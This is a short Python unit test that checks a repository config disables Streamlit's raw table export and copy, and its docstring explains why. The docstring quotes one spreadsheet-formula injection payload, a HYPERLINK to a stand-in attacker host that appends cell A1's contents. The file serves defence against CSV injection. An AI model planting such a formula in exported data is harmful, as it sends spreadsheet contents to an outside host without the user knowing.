"""Streamlit's own table export writes text from data as it is: its 'Download as CSV' button on every st.dataframe
(a search result titled '=HYPERLINK("http://evil.test/?"&A1,"click")' became a live formula in the spreadsheet) and
its clipboard copy of table cells (pasted into a spreadsheet, the same). The repository's config turns both off; the
app's own exports (core.io.formulas) neutralise such cells."""

from __future__ import annotations

from tests.unit.repo_config import repo_option


def test_streamlits_raw_table_export_and_copy_are_off():
    assert repo_option("client.disableDataExport") is True
